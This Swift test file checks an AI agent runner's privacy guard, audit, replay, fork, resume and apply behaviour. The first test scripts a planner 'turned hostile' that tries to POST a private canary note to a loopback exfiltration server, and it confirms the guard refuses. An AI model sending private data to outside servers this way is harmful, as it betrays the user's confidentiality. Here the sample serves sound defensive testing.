import Foundation
import Subprocess
import Switchyard
import SwitchyardTesting
import Testing

func planCall(_ plan: JSONValue, id: Int) -> ScriptedReply { .openAIPlan(plan, id: id) }
func answer(_ text: String) -> ScriptedReply { .openAIText(text) }

@Suite struct RunCommandTests {
    let binary = BuiltProducts.executable("switchyard")

    func workspace(cloud: ScriptedModelServer, local: ScriptedModelServer) throws -> TemporaryDirectory {
        try notesWorkspace(
            "run", secret: "CANARY-4242 the acquisition closes in May.", cloud: cloud, local: local,
            tools: ["read: {}", #"http_fetch: { allow_hosts: ["127.0.0.1"], allow_addresses: ["127.0.0.1"] }"#],
            rest: "routing:\n  rules:\n    - { role: reasoning, use: cloud }\nbudgets: { steps: 10 }")
    }

    @Test func aPlannedRunAnswersKeepsPrivateDataLocalAndAuditTellsTheTruth() async throws {
        let cloud = try ScriptedModelServer()
        let local = try ScriptedModelServer()
        let exfil = try LoopbackHTTPServer { _, writer in writer.respond(status: 200, text: "thanks") }
        defer { exfil.stop() }
        let directory = try workspace(cloud: cloud, local: local)
        cloud.enqueue(
            "/v1/chat/completions",
            planCall(["steps": [["kind": "tool", "tool": "read", "arguments": ["path": "notes/secret.txt"]]]], id: 1))
        // A planner turned hostile: post the private note to a server it is allowed to reach.
        cloud.enqueue(
            "/v1/chat/completions",
            planCall(
                [
                    "steps": [
                        [
                            "kind": "tool", "tool": "http_fetch",
                            "arguments": [
                                "url": .string("http://127.0.0.1:\(exfil.port)/collect"), "method": "POST",
                                "body": "$2",
                            ],
                        ],
                        ["kind": "model", "instruction": "When does it close?", "inputs": ["$2"], "role": "reasoning"],
                    ]
                ], id: 2))
        cloud.enqueue("/v1/chat/completions", planCall(["answer": "$4"], id: 3))
        local.enqueue("/v1/chat/completions", answer("It closes in May."))

        let environment = cliEnvironment(home: directory.path, ["OPENAI_API_KEY": "sk-test-cli"])
        let result = try await runProgram(
            binary, ["run", "helper", "When does the acquisition close?", "--workspace", directory.path, "--json"],
            environment: environment)
        #expect(result.status == 0, "\(result.standardError)")
        let output = try JSONValue(parsing: result.standardOutput)
        #expect(output["answer"] == "It closes in May.")
        #expect(output["refused"]?.arrayValue?.count == 1)
        // Where the answer comes from: the lines the run read.
        #expect(output["sources"] == [["path": "notes/secret.txt", "start_line": 1, "end_line": 1]])
        // Nothing private reached the cloud or the exfiltration server.
        #expect(!cloud.requests.map(\.text).joined().contains("CANARY-4242"))
        #expect(exfil.requestCount == 0)
        #expect(local.requests.first?.text.contains("CANARY-4242") == true)

        let run = try #require(output["run"]?.stringValue)
        let audit = try await runProgram(binary, ["audit", run, "--json"], environment: environment)
        #expect(audit.status == 0, "\(audit.standardError)")
        let report = try JSONValue(parsing: audit.standardOutput)
        #expect(report["above_clearance"] == false)
        let egress = report["egress"]?.arrayValue ?? []
        #expect(egress.filter { $0["kind"]?.stringValue == "model" }.count == 4)
        // Each model request's bytes are those its server received.
        #expect(
            egress.filter { $0["kind"]?.stringValue == "model" }.compactMap { $0["bytes"]?.intValue }.sorted()
                == (cloud.requests + local.requests).map(\.body.count).sorted())
        let refused = try #require(egress.first { $0["decision"]?.stringValue == "refuse" })
        #expect(refused["kind"] == "http")
        #expect(refused["labels"]?["confidentiality"] == "private")
        let human = try await runProgram(binary, ["audit", run], environment: environment)
        #expect(
            human.standardOutput.contains(
                "Nothing above a destination's clearance left the machine: by the guard's decisions and by the bytes sent."
            ))

        // trace show: each round with the steps it planned, routes, refusals, results.
        let shown = try await runProgram(binary, ["trace", "show", run], environment: environment)
        let tree = shown.standardOutput.split(separator: "\n").map(String.init)
        let round2 = try #require(tree.firstIndex { $0.hasPrefix("plan-2  ") })
        #expect(tree.contains { $0.hasPrefix("plan-1  ") && $0.hasSuffix("planned 1 step") })
        #expect(tree.contains { $0.hasPrefix("  $2  ") && $0.hasSuffix(#"read {"path":"notes/secret.txt"}"#) })
        let fetch = try #require(tree.firstIndex { $0.hasPrefix("  $3  ") })
        #expect(fetch > round2)
        #expect(tree[fetch].contains("http_fetch"))
        // The guard's refusal, once (the tool's error and the step's failure quote it).
        #expect(tree[fetch + 2].contains("! refused http to http://127.0.0.1:"), "\(shown.standardOutput)")
        #expect(tree.filter { $0.contains("private content may not go") }.count == 1)
        let model = try #require(tree.firstIndex { $0.hasPrefix("  $4  ") })
        #expect(tree[model].hasSuffix("model: When does it close? reading $2"))
        #expect(tree[model + 1].contains("→ local ("))
        #expect(tree[model + 1].contains("result private/"))
        #expect(tree.contains("finished: It closes in May."))
        let timeline = try await runProgram(binary, ["trace", "show", run, "--events"], environment: environment)
        #expect(timeline.standardOutput.contains("  └ tool.result"))

        // The run replays exactly, and no server hears of it.
        let asked = cloud.requests.count + local.requests.count
        let replay = try await runProgram(binary, ["replay", run], environment: environment)
        #expect(replay.status == 0, "\(replay.standardOutput)\(replay.standardError)")
        #expect(replay.standardOutput.contains("no divergence"))
        #expect(cloud.requests.count + local.requests.count == asked)
        // What-if: one word of the prompt changed; the first planner request diverges there.
        let edited = try directory.read("agents/helper.md").replacing(
            "You help with notes.", with: "You help with files.")
        try directory.write("edited/helper.md", edited)
        let whatIf = try await runProgram(
            binary, ["replay", run, "--agent", directory.path + "/edited/helper.md", "--json"], environment: environment
        )
        #expect(whatIf.status == 6)
        let divergence = try JSONValue(parsing: whatIf.standardOutput)["divergence"]
        #expect(divergence?["step"] == "plan-1")
        #expect(divergence?["path"]?.stringValue?.hasPrefix("request.messages[0].content") == true)
        // What-if: the same requests sent to another model; the wire body says so.
        let otherModel = try await runProgram(
            binary, ["replay", run, "--set", "profiles.cloud.model=gpt-4.1", "--json"], environment: environment)
        #expect(otherModel.status == 6)
        let sent = try JSONValue(parsing: otherModel.standardOutput)["divergence"]
        #expect(sent?["step"] == "plan-1")
        #expect(sent?["path"] == "wire.body.model")
        #expect(sent?["recorded"] == "gpt-4.1-mini")
        #expect(sent?["replayed"] == "gpt-4.1")

        // A fork from $4 copies what came before it, the guard's refusal inside the fetch too.
        local.enqueue("/v1/chat/completions", answer("In May."))
        cloud.enqueue("/v1/chat/completions", planCall(["answer": "$4"], id: 4))
        let fork = try await runProgram(
            binary, ["replay", run, "--live-from", "$4", "--json"], environment: environment)
        #expect(fork.status == 0, "\(fork.standardError)")
        let child = try #require(try JSONValue(parsing: fork.standardOutput)["fork"]?.stringValue)
        let childAudit = try JSONValue(
            parsing: try await runProgram(binary, ["audit", child, "--json"], environment: environment).standardOutput)
        let childRefusals = (childAudit["egress"]?.arrayValue ?? []).filter { $0["decision"] == "refuse" }
        #expect(childRefusals.map { $0["kind"] } == ["http"])
        #expect(childRefusals.first?["reason"] == refused["reason"])
    }

    /// Without --apply an agent can only propose a change (on a new branch); with it, it may
    /// change the work tree.
    @Test(arguments: [false, true])
    func theWorkTreeChangesOnlyWithApply(apply: Bool) async throws {
        let cloud = try ScriptedModelServer()
        let local = try ScriptedModelServer()
        let directory = try TemporaryDirectory("apply")
        try directory.write("README.md", "Teh project.\n")
        try directory.write(
            "agents/fixer.md",
            plannedAgent(
                "fixer", local: local, cloud: cloud,
                tools: ["edit: {}", "shell: { otherwise: allow, writable: [.build] }"], prompt: "You fix typos."))
        cloud.enqueue(
            "/v1/chat/completions",
            planCall(
                [
                    "steps": [
                        [
                            "kind": "tool", "tool": "edit",
                            "arguments": ["path": "README.md", "old_string": "Teh", "new_string": "The"],
                        ],
                        [
                            "kind": "tool", "tool": "shell",
                            "arguments": [
                                "command": "mkdir -p .build; echo built > .build/product; echo shell >> NOTES"
                            ],
                        ],
                    ]
                ], id: 1))
        cloud.enqueue("/v1/chat/completions", planCall(["answer": "$2"], id: 2))
        let result = try await runProgram(
            binary,
            ["run", "fixer", "Fix the typo", "--workspace", directory.path, "--json"] + (apply ? ["--apply"] : []),
            environment: cliEnvironment(home: directory.path, ["OPENAI_API_KEY": "sk-test-apply"]))
        #expect(result.status == 0, "\(result.standardError)")
        let answer = try JSONValue(parsing: result.standardOutput)["answer"]?.stringValue ?? ""
        // A build's products land in the shell's writable directory either way.
        #expect(try directory.read(".build/product") == "built\n")
        if apply {
            #expect(try directory.read("README.md") == "The project.\n")
            #expect(try directory.read("NOTES") == "shell\n")
        } else {
            #expect(try directory.read("README.md") == "Teh project.\n")
            #expect(!FileManager.default.fileExists(atPath: directory.path + "/NOTES"))
            #expect(answer.contains("the work tree is read-only in this run"), "\(answer)")
        }
    }

    @Test func aSpecWithAnUnknownToolDoesNotRun() async throws {
        let directory = try TemporaryDirectory("run-bad")
        try directory.write(
            "agents/bad.md",
            "---\nname: bad\nprofiles:\n  local: { provider: ollama, model: m }\ntools:\n  teleport: {}\n---\nHi\n")
        let result = try await runProgram(
            binary, ["run", "bad", "task", "--workspace", directory.path, "--no-record"],
            environment: [
                "PATH": ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin", "HOME": directory.path,
            ])
        #expect(result.status == 2)
        #expect(result.standardError.contains("bad.md:6: unknown tool 'teleport'"))
    }

    /// A llama.cpp server whose window is 1,024 tokens: the agent's first request (its
    /// tools' schemas alone are larger) is refused before it is sent, with the profile, the
    /// size and the window the server reported, and the run records the window it was told.
    @Test func aRequestLargerThanTheServersWindowIsRefusedBeforeItIsSent() async throws {
        let server = try ScriptedModelServer()
        server.enqueue("/props", .json(#"{"default_generation_settings":{"n_ctx":1024}}"#))
        let directory = try TemporaryDirectory("run-window")
        try directory.write("notes/a.txt", "a\n")
        try directory.write(
            "agents/wide.md",
            """
            ---
            name: wide
            profiles:
              local: { provider: openai-compatible, base_url: "\(server.baseURL)/v1", model: m, options: { quirks: llama.cpp, stream: false } }
            tools: { read: {}, list: {}, search: {}, edit: {}, git_status: {}, git_log: {}, git_show: {}, git_diff: {}, git_blame: {}, git_branch: {} }
            ---
            You help.
            """)
        let environment = cliEnvironment(home: directory.path)
        let result = try await runProgram(
            binary, ["run", "wide", "what is in a.txt?", "--workspace", directory.path], environment: environment)
        #expect(result.status != 0)
        #expect(
            result.standardError.contains("profile local's context window is 1024 (\(server.baseURL)/props)"),
            "\(result.standardError)")
        #expect(
            result.standardError.split(separator: "\n").last?.contains("context-too-long: the request is about") == true
        )
        #expect(server.requests.map(\.path) == ["/props"])
        let runs = try JSONValue(
            parsing: try await runProgram(binary, ["trace", "ls", "--json"], environment: environment).standardOutput)
        let id = try #require(runs.arrayValue?.first?["id"]?.stringValue)
        let shown = try JSONValue(
            parsing: try await runProgram(binary, ["trace", "show", id, "--json"], environment: environment)
                .standardOutput)
        #expect(shown["header"]?["profiles"]?["local"]?["context_window"]?["tokens"] == 1024)
        #expect(shown["events"]?.arrayValue?.contains { $0["kind"] == "model.refused" } == true)
        let outline = try await runProgram(binary, ["trace", "show", id], environment: environment)
        #expect(outline.standardOutput.contains("not sent: the request is about"), "\(outline.standardOutput)")
        // The replay knows the window from the record: it fails the same way, asking no one.
        let replay = try await runProgram(binary, ["replay", id], environment: environment)
        #expect(replay.status != 0)
        #expect(
            replay.standardError.contains("profile local's context window is 1024 (\(server.baseURL)/props)"),
            "\(replay.standardOutput)\(replay.standardError)")
        #expect(!replay.standardError.contains("diverge"))
        #expect(server.requests.count == 1)
    }

    /// The agent's own model names a key variable that is not set: the run stops before it
    /// starts, naming the variable — not later, with a message about clearances.
    @Test func anUnsetKeyOfTheAgentsModelStopsTheRunSayingWhich() async throws {
        let server = try ScriptedModelServer()
        let directory = try TemporaryDirectory("run-key")
        try directory.write(
            "agents/keyed.md",
            "---\nname: keyed\nprofiles:\n  local: { provider: openai-compatible, base_url: \"\(server.baseURL)/v1\", model: m, api_key_env: SWITCHYARD_TEST_NO_SUCH_KEY }\n---\nHi\n"
        )
        let result = try await runProgram(
            binary, ["run", "keyed", "task", "--workspace", directory.path, "--no-record"],
            environment: [
                "PATH": ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin", "HOME": directory.path,
            ])
        #expect(result.status == 2)
        #expect(
            result.standardError.contains(
                "profiles.local.api_key_env: SWITCHYARD_TEST_NO_SUCH_KEY is not set; export it to use \(server.baseURL)/v1"
            ),
            "\(result.standardError)")
        #expect(server.requests.isEmpty)
    }

    /// Fork a run at its model step: what came before is served from the record (the tool is
    /// not run again: the file changed since, and the fork still sees the old text), from the
    /// step on models are asked anew, and the fork is a run of its own that replays exactly.
    @Test func aForkReplaysUpToItsStepAndRunsLiveFromIt() async throws {
        let cloud = try ScriptedModelServer()
        let local = try ScriptedModelServer()
        let directory = try TemporaryDirectory("fork")
        try directory.write("notes/todo.txt", "Ship the release on Friday.\n")
        try directory.write(
            "agents/helper.md",
            plannedAgent("helper", local: local, cloud: cloud, tools: ["read: {}"], prompt: "You help with notes."))
        let rounds: [JSONValue] = [
            ["steps": [["kind": "tool", "tool": "read", "arguments": ["path": "notes/todo.txt"]]]],
            ["steps": [["kind": "model", "instruction": "When?", "inputs": ["$2"]]]], ["answer": "$3"],
        ]
        for (index, round) in rounds.enumerated() { cloud.enqueue("/v1/chat/completions", planCall(round, id: index)) }
        local.enqueue("/v1/chat/completions", answer("On Friday."))
        let environment = cliEnvironment(home: directory.path, ["OPENAI_API_KEY": "sk-test-cli"])
        let original = try await runProgram(
            binary, ["run", "helper", "When do we ship?", "--workspace", directory.path, "--json"],
            environment: environment)
        #expect(original.status == 0, "\(original.standardError)")
        let run = try #require(try JSONValue(parsing: original.standardOutput)["run"]?.stringValue)

        try directory.write("notes/todo.txt", "Ship the release on Monday.\n")
        local.enqueue("/v1/chat/completions", answer("Friday, as the note says."))
        cloud.enqueue("/v1/chat/completions", planCall(["answer": "$3"], id: 9))
        let (cloudBefore, localBefore) = (cloud.requests.count, local.requests.count)
        let fork = try await runProgram(
            binary, ["replay", run, "--live-from", "$3", "--json"], environment: environment)
        #expect(fork.status == 0, "\(fork.standardError)")
        let outcome = try JSONValue(parsing: fork.standardOutput)
        #expect(outcome["answer"] == "Friday, as the note says.")
        // Planner rounds 1 and 2 and the tool came from the record; $3 and round 3 ran live.
        #expect(cloud.requests.count == cloudBefore + 1)
        #expect(local.requests.count == localBefore + 1)
        #expect(local.requests.last?.text.contains("Ship the release on Friday.") == true)

        let child = try #require(outcome["fork"]?.stringValue)
        let list = try JSONValue(
            parsing: try await runProgram(binary, ["trace", "ls", "--json"], environment: environment).standardOutput)
        #expect(list.arrayValue?.first { $0["id"]?.stringValue == child }?["parent"]?.stringValue == run)
        let replay = try await runProgram(binary, ["replay", child], environment: environment)
        #expect(replay.status == 0, "\(replay.standardOutput)\(replay.standardError)")
        #expect(replay.standardOutput.contains("no divergence"))
        #expect(cloud.requests.count == cloudBefore + 1)

        let nowhere = try await runProgram(binary, ["replay", run, "--live-from", "$42"], environment: environment)
        #expect(nowhere.status == 1)
        #expect(nowhere.standardError.contains("has no step $42; its steps are"))
    }

    /// An agent planned by a scripted server whose one tool is `vector_search`, embedding with
    /// the `embed` profile at `embedder`; `embed` adds to that profile, `rest` to the front matter.
    func finder(planner: ScriptedModelServer, embedder: LoopbackHTTPServer, embed: String = "", rest: String = "")
        -> String
    {
        """
        ---
        name: finder
        planner: cloud
        model: cloud
        profiles:
          cloud: { provider: openai-compatible, base_url: "\(planner.baseURL)/v1", model: m, clearance: internal, options: { stream: false } }
          embed: { provider: openai-compatible, base_url: "\(embedder.baseURL)/v1", model: e\(embed) }
        tools:
          vector_search: { collection: notes }
        \(rest)
        ---
        You find notes.
        """
    }

    /// An agent with vector_search gets its workspace indexed on its first run, and only what
    /// changed re-embedded on later ones.
    @Test func theWorkspaceIsIndexedOnFirstUseAndIncrementallyAfter() async throws {
        let planner = try ScriptedModelServer()
        // An OpenAI-format embedding server: one vector for each input, whatever the batch.
        let embedded = Shared<Int>(0)
        let embedder = try LoopbackHTTPServer { request, writer in
            let inputs = (try? JSONValue(parsing: request.text))?["input"]?.arrayValue ?? []
            embedded.update { $0 += inputs.count }
            let data = inputs.indices.map { #"{"object":"embedding","index":\#($0),"embedding":[1,\#($0 + 1),0.5]}"# }
            writer.respond(
                status: 200, headers: [("Content-Type", "application/json")],
                text: #"{"object":"list","data":[\#(data.joined(separator: ","))],"model":"e"}"#)
        }
        defer { embedder.stop() }
        let directory = try TemporaryDirectory("run-index")
        try directory.write("notes/a.txt", "The launch is on Friday.\n")
        try directory.write("notes/b.txt", "The budget is fixed.\n")
        try directory.write("agents/finder.md", finder(planner: planner, embedder: embedder))
        let home = try TemporaryDirectory("run-index-home")  // outside the workspace, as ~/.switchyard is
        let environment = cliEnvironment(home: home.path, switchyardHome: home.path)
        func run(_ extra: [String] = []) async throws -> JSONValue {
            planner.enqueue("/v1/chat/completions", planCall(["answer": "done"], id: 1))
            let result = try await runProgram(
                binary, ["run", "finder", "Find the launch note", "--workspace", directory.path, "--json"] + extra,
                environment: environment)
            #expect(result.status == 0, "\(result.standardError)")
            let run = try #require(try JSONValue(parsing: result.standardOutput)["run"]?.stringValue)
            let export = try await runProgram(binary, ["trace", "export", run, "--jsonl"], environment: environment)
            let header = try JSONValue(parsing: String(export.standardOutput.prefix { $0 != "\n" }))
            return try #require(header["header"]?["index"])
        }
        let first = try await run()
        #expect(first["collection"] == "notes")
        #expect(first["indexed"] == 3)  // the two notes and the agent's spec
        let embeddedFirst = embedded.value
        #expect(embeddedFirst >= 3)

        let second = try await run()
        #expect(second["indexed"] == 0)
        #expect(second["unchanged"] == 3)
        #expect(embedded.value == embeddedFirst)

        try directory.write("notes/b.txt", "The budget grew.\n")
        let third = try await run()
        #expect(third["indexed"] == 1)
        #expect(embedded.value > embeddedFirst)

        // index.include narrows the collection: the spec outside it leaves.
        let fourth = try await run(["--set", "index.include=notes/**"])
        #expect(fourth["indexed"] == 0)
        #expect(fourth["unchanged"] == 2)
        #expect(fourth["removed"] == 1)
    }

    /// A spec that makes its workspace secret is the workspace's label for the index too: a run
    /// does not send its files to an embedder cleared only for private text (the index used
    /// to check the settings' default label, private, while the tools carried the spec's).
    @Test func theIndexBeforeARunKeepsTheSpecsWorkspaceLabel() async throws {
        let planner = try ScriptedModelServer()
        let embedded = Shared<[String]>([])
        let embedder = try LoopbackHTTPServer { request, writer in
            embedded.update { $0.append(request.text) }
            writer.respond(status: 500, text: "no")
        }
        defer { embedder.stop() }
        let directory = try TemporaryDirectory("run-index-label")
        try directory.write("notes/a.txt", "CANARY-7311 the merger closes in June.\n")
        try directory.write(
            "agents/finder.md",
            finder(
                planner: planner, embedder: embedder, embed: ", clearance: private",
                rest: "privacy: { workspace: { confidentiality: secret } }"))
        let home = try TemporaryDirectory("run-index-label-home")
        let environment = cliEnvironment(home: home.path, switchyardHome: home.path)
        planner.enqueue("/v1/chat/completions", planCall(["answer": "done"], id: 1))
        let result = try await runProgram(
            binary, ["run", "finder", "Find the merger note", "--workspace", directory.path, "--json"],
            environment: environment)
        #expect(result.status == 0, "\(result.standardError)")
        #expect(embedded.value.isEmpty, "the embedder was sent \(embedded.value.count) requests")
        #expect(result.standardError.contains("the workspace is secret and profile embed is cleared only for private"))
        #expect(!planner.requests.map(\.text).joined().contains("CANARY-7311"))
    }

    /// A run killed while a model step waits for its answer resumes where it stopped: the
    /// planner's rounds and the fetch that completed come from the trace (neither server
    /// hears them again), the unanswered request is asked again, the run finishes in place
    /// and replays exactly.
    @Test func aKilledRunResumesWithoutRepeatingWhatCompleted() async throws {
        let cloud = try ScriptedModelServer()
        let local = try ScriptedModelServer()
        let site = try LoopbackHTTPServer { _, writer in writer.respond(status: 200, text: "Release train: Thursday.") }
        defer { site.stop() }
        let directory = try TemporaryDirectory("resume")
        try directory.write(
            "agents/helper.md",
            plannedAgent(
                "helper", local: local, cloud: cloud,
                tools: [#"http_fetch: { allow_hosts: ["127.0.0.1"], allow_addresses: ["127.0.0.1"] }"#],
                prompt: "You help."))
        let url = "http://127.0.0.1:\(site.port)/schedule"
        cloud.enqueue(
            "/v1/chat/completions",
            planCall(["steps": [["kind": "tool", "tool": "http_fetch", "arguments": ["url": .string(url)]]]], id: 1))
        cloud.enqueue(
            "/v1/chat/completions",
            planCall(["steps": [["kind": "model", "instruction": "When is the release?", "inputs": ["$2"]]]], id: 2))
        // The model step's answer never comes: the run is killed while it waits.
        local.enqueue("/v1/chat/completions", ScriptedReply(parts: ["", ""], pause: .seconds(60)))
        let environment = cliEnvironment(home: directory.path, ["OPENAI_API_KEY": "sk-test-cli"])
        let configuration = processConfiguration(
            binary, ["run", "helper", "When is the release?", "--workspace", directory.path], environment: environment)
        let killed = try await Subprocess.run(configuration, input: .none, output: .discarded, error: .discarded) {
            execution in
            let deadline = ContinuousClock.now + .seconds(30)
            while local.requests.isEmpty, ContinuousClock.now < deadline {
                try await Task.sleep(for: .milliseconds(10))
            }
            try execution.send(signal: .kill)
        }
        #expect(!killed.terminationStatus.isSuccess)
        #expect(site.requestCount == 1)
        let listed = try await runProgram(binary, ["trace", "ls", "--json"], environment: environment)
        let entry = try #require(try JSONValue(parsing: listed.standardOutput).arrayValue?.first)
        #expect(entry["status"] == "interrupted")
        let run = try #require(entry["id"]?.stringValue)

        local.enqueue("/v1/chat/completions", answer("On Thursday."))
        cloud.enqueue("/v1/chat/completions", planCall(["answer": "$3"], id: 3))
        let resumed = try await runProgram(binary, ["resume", run], environment: environment)
        #expect(resumed.status == 0, "\(resumed.standardError)")
        #expect(resumed.standardOutput.hasPrefix("On Thursday."))
        #expect(site.requestCount == 1)  // the fetch completed before the kill: not repeated
        #expect(cloud.requests.count == 3)  // rounds 1 and 2 from the trace, round 3 live
        #expect(local.requests.count == 2)  // the unanswered request, asked again
        let after = try JSONValue(
            parsing: try await runProgram(binary, ["trace", "ls", "--json"], environment: environment).standardOutput)
        #expect(after.arrayValue?.count == 1)
        #expect(after.arrayValue?.first?["status"] == "finished")
        let replay = try await runProgram(binary, ["replay", run], environment: environment)
        #expect(replay.status == 0, "\(replay.standardOutput)\(replay.standardError)")
        #expect(replay.standardOutput.contains("no divergence"))
        #expect(cloud.requests.count == 3)

        let again = try await runProgram(binary, ["resume", run], environment: environment)
        #expect(again.status == 1)
        #expect(again.standardError.contains("only interrupted or failed runs resume"))
    }
}
